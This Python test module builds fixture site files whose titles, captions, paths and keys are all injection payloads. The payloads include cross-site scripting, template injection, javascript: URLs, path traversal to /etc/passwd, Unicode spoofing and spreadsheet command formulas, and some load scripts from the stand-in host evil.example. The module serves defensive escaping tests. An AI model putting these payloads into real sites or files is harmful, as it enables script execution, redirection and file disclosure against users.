"""Known ways to make a page run what it should only show, and a build in which every name is one of them.

The strings are of the kinds that the OWASP cheat sheets on cross-site scripting, DOM-based scripting and CSV injection
list (https://cheatsheetseries.owasp.org), written for this place: each would set `window.hit` or ask `evil.example`.
"""

from __future__ import annotations

HIT = "window.hit=1"
ATTACKS: tuple[str, ...] = (
    # elements and handlers
    f"<script>{HIT}</script>",
    "<script src=https://evil.example/a.js></script>",
    f"\"><script>{HIT}</script>",
    f"'><img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext></table><mglyph><style><img src=x onerror={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<body onload={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    "<object data=https://evil.example/o></object>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>go",
    "<style>@import 'https://evil.example/a.css'</style>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"\" onmouseover=\"{HIT}\" autofocus onfocus=\"{HIT}",
    f"x' style='animation:a' onanimationstart='{HIT}",
    # templates and scripts that build pages
    "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{{ href('https://evil.example') }}${7*7}#{7*7}<%= 7*7 %>",
    f"${{{HIT}}}`-{HIT}-`",
    f"\";{HIT};//",
    f"';{HIT};//\\",
    "__proto__",
    "constructor",
    "\u2028\u2029",
    # addresses
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"&#106;avascript:{HIT}",
    f"java\tscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://evil.example/x.png",
    # paths
    "../../../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2fpasswd",
    "/etc/passwd",
    "CON",
    "index.html",
    ".htaccess",
    # letters
    "\u202egpj.exe",
    "\u2066\u2067left\u2069 of\u2069",
    "zero\u200bwidth\u200djoiner\ufeff",
    "a\u0300" * 40,
    "\u0000\u0007\u001b[31mred",
    "\ud7ff\ufffd\uffff",
    "W" * 700,
    # tables
    "=HYPERLINK(\"https://evil.example\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def quoted(text: str) -> str:
    """Text as a TOML string."""
    escaped = "".join(
        f"\\u{ord(c):04x}" if ord(c) < 32 or ord(c) == 127 or c in '"\\' else c for c in text if ord(c) != 0
    )
    return f'"{escaped}"'


def line(text: str) -> str:
    """Text as it can stand in one line of a note."""
    return " ".join(text.split()) or "x"


def settings(title: str, about: str) -> str:
    """A build.toml all of whose words are attacks."""
    keys = {
        "title": title,
        "about": about,
        "author": ATTACKS[2],
        "site": "https://example.org/\"><script>window.hit=1</script>",
        "language": "en\"><script>window.hit=1</script>",
    }
    lines = [f"{key} = {quoted(value)}" for key, value in keys.items()]
    lines += [f"keep = [{quoted('../..')}, {quoted('<b>')}]", "[private]", f"names = [{quoted(ATTACKS[1])}]"]
    lines += ["[places]"]
    lines += [f"{quoted(f'{n} {line(text)}')} = {quoted(text)}" for n, text in enumerate(ATTACKS)]
    return "\n".join(lines) + "\n"


def slips(number: int, text: str) -> str:
    """Every kind of slip about one attack."""
    said = line(text)
    return f"""
# {said}

{said} [{said}](<{said}>) ![{said}](<{said}>) <{said}> **{said}**

[link]({said.replace(" ", "%20")})

```removed part {number} {said}, left
from: host {said}
place: {number} {said} / {said}
held by: 2 bolts {said}
way round: {said}
stored: {said}
marks: {said}
hole {said} to edge {said}: 12 mm by rule {said}
hole to {said}: 13 mm
{said}
caution: {said}
settled: no-photo-in-place, {said}
```

```job job {number} {said}
needs: part {number} {said}, left
note: {said}
```

```ordered order {number} {said}
for: part {number} {said}, left
due: {said}
bought from: {said}
price: {said}
```

```treated part {number} {said}, left
with: {said}
surface: {said}
next: {said}
```

```private
{said} [{said}](<{said}>)
```

```{said}
{said}
```
"""


def build() -> dict[str, str]:
    """The files of a build in which every name, caption, place, key and file name is an attack."""
    files = {"build.toml": settings(ATTACKS[0], ATTACKS[3])}
    names = ("IMG_<b>1.jpg", "IMG_'2'.jpg", "IMG_\"3\".jpg", "IMG_&amp;4.jpg", "=5.jpg", "{{6}}.jpg", "..7.jpg")
    names += ("#8%20.jpg",)
    for at in range(0, len(ATTACKS), 8):
        date = f"2026-03-{1 + at // 8:02d}"
        texts = ATTACKS[at : at + 8]
        folder = f"{date} " + line(texts[0])[:60].replace("/", "_").replace("\0", "")
        pictures = "".join(
            f"\n```photo {name}\ncaption: {line(text)}\nshows: part {at + n} {line(text)}, left\n"
            f"line: 0.1,0.2 0.8,0.2 {line(text)}\n```\n"
            for n, (name, text) in enumerate(zip(names, texts, strict=False))
        )
        note = "".join(slips(at + n, text) for n, text in enumerate(texts)) + pictures
        files[f"{folder}/note <script>.md"] = note.replace("\0", "{{U+0000}}")
        files |= {f"{folder}/{name}": "a picture" for name, _ in zip(names, texts, strict=False)}
    return files
